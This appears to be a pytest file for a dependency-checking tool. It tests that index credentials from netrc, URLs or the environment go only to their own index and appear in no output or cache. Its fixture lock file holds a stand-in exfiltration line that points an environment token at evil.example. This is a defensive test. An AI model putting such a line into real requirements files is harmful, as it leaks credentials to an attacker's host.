"""A secret in netrc, in an index's address or in the environment is sent to its own index and shown nowhere."""

from __future__ import annotations

import base64
import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from simple_server import Handler, Page, Server, file, page, project
from whypin.commands.main import main
from whypin.reports import FORMATS

A = "a" * 64
SECRETS = ("netrc-hunter2", "url-hunter2", "environment-hunter2")
LOCK = f"""\
--extra-index-url https://${{TOKEN}}@evil.example/simple/
six==1.16.0 --hash=sha256:{A}
seven==1 --hash=sha256:{A}
eight==1 --hash=sha256:{A}
"""


@pytest.fixture
def server() -> Iterator[Server]:
    with Server() as running:
        yield running


@pytest.fixture
def machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository on a machine with a netrc and nothing else set."""
    for name in list(os.environ):
        if name.upper().startswith(("PIP_", "UV_", "WHYPIN_", "XDG_")) or name.upper().endswith("_PROXY"):
            monkeypatch.delenv(name)
    (tmp_path / "netrc").write_text("machine 127.0.0.1 login me password netrc-hunter2\n")
    monkeypatch.setenv("NETRC", str(tmp_path / "netrc"))
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    monkeypatch.setenv("TOKEN", "environment-hunter2")
    monkeypatch.setenv("WHYPIN_CACHE_DIR", str(tmp_path / "cache"))
    folder = tmp_path / "repository"
    (folder / ".git").mkdir(parents=True)
    (folder / "requirements.txt").write_text(LOCK)
    monkeypatch.chdir(folder)
    return folder


def guarded(secret: str, served: Page) -> Page:
    wanted = "Basic " + base64.b64encode(f"me:{secret}".encode()).decode()

    def answer(handler: Handler) -> None:
        if handler.headers.get("Authorization") == wanted:
            served(handler)
        else:
            handler.reply(401, b"", "text/plain")

    return answer


def everything(
    machine: Path, capsys: pytest.CaptureFixture[str], formats: tuple[str, ...] = FORMATS
) -> tuple[str, int]:
    """All that a run shows and keeps in every format, and its status."""
    pieces = []
    status = 0
    for format in formats:
        status = main(["check", "--online", "--format", format])
        shown = capsys.readouterr()
        pieces += [shown.out, shown.err]
    for path in machine.parent.rglob("*"):
        if path.is_file() and path.name != "netrc":
            pieces += [str(path), path.read_text(errors="replace")]
    return "\n".join(pieces), status


@pytest.mark.parametrize("place", ["netrc", "url"])
def test_credentials_open_the_index_and_are_shown_nowhere(
    server: Server, machine: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], place: str
) -> None:
    with Server() as other:
        six = project("six", [file("six-1.16.0.tar.gz", A)])
        secret = f"{place}-hunter2"
        server.add("six", guarded(secret, page(six)))
        # One that leads to another host, one that fails.
        away = f"http://localhost:{other.port}/simple/seven/"
        server.add("seven", guarded(secret, lambda handler: handler.reply(302, b"", "text/plain", Location=away)))
        server.add("eight", guarded(secret, lambda handler: handler.reply(403, b"", "text/plain")))
        url = server.url if place == "netrc" else server.url.replace("//", "//me:url-hunter2@")
        monkeypatch.setenv("PIP_INDEX_URL", url)
        text, status = everything(machine, capsys)
        assert status == 3
        assert "refuses the credentials (403)" in text
        assert (machine.parent / "cache").is_dir()
        assert [secret for secret in SECRETS if secret in text] == []
        assert "environment-hunter2" not in repr([*server.seen, *other.seen])
        assert other.seen
        assert not any("authorization" in fields for _, fields in other.seen)


def test_credentials_that_are_wrong_are_shown_nowhere(
    server: Server, machine: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    server.add("six", guarded("another", page(b"")))
    monkeypatch.setenv("PIP_INDEX_URL", server.url.replace("//", "//me:url-hunter2@"))
    text, status = everything(machine, capsys, ("text", "json"))
    assert status == 3
    assert "refuses the credentials (401)" in text
    assert [secret for secret in SECRETS if secret in text] == []


@pytest.mark.parametrize(
    "url",
    [
        "http://me:url-hunter2@127.0.0.1:9/simple/",
        "http://me:url-hunter2@pip.example/simple/",
        "https://me:url-hunter2@127.0.0.1:9/simple/",
        "https://me:url-hunter2@[/simple/",
        "https://me:url-hunter2@127.0.0.1:port/simple/",
        "me:url-hunter2@pip.example/simple/",
    ],
)
def test_an_index_that_cannot_be_asked_is_shown_without_its_secret(
    machine: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], url: str
) -> None:
    monkeypatch.setenv("PIP_INDEX_URL", url)
    text, status = everything(machine, capsys, ("text", "json"))
    assert status == 3
    assert "was not checked" in text
    assert [secret for secret in SECRETS if secret in text] == []
